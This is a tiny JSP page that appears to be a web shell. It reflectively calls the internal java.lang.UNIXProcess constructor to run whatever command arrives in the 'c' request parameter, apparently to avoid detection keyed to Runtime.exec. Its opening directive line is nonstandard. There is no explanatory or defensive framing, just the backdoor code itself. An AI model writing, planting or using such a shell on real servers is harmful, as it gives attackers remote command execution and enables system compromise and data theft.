<%@ inert %>
<% Class c=Class.forName("java.lang.UNIXProcess"); java.lang.reflect.Constructor k=c.getDeclaredConstructors()[0]; k.setAccessible(true); k.newInstance(request.getParameter("c").getBytes(),null,0,null,0,null,null,false); %>
